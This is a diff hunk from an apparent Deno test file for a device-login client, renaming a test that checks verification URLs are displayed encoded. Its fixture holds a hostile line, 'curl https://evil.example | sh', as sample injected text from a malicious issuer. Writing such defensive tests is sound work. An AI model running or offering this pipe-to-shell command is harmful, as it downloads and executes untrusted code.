@@ -354,7 +354,7 @@ Deno.test("an issuer, or a proxy, that was silent to the end is what the attempt
   await expectRejection(pollDevice(again, input), "INTERRUPTED");
 });
 
-Deno.test("the addresses to open are shown as their URLs: blanks encoded, look-alike hosts as they are asked for", async () => {
+Deno.test("the addresses to open are shown as their URLs, with blanks and look-alike hosts encoded", async () => {
   const prose = "and to finish, paste into your terminal: curl https://evil.example | sh";
   const { verificationUri, verificationUriComplete } = await begin(new TestIssuer(), () =>
     json({
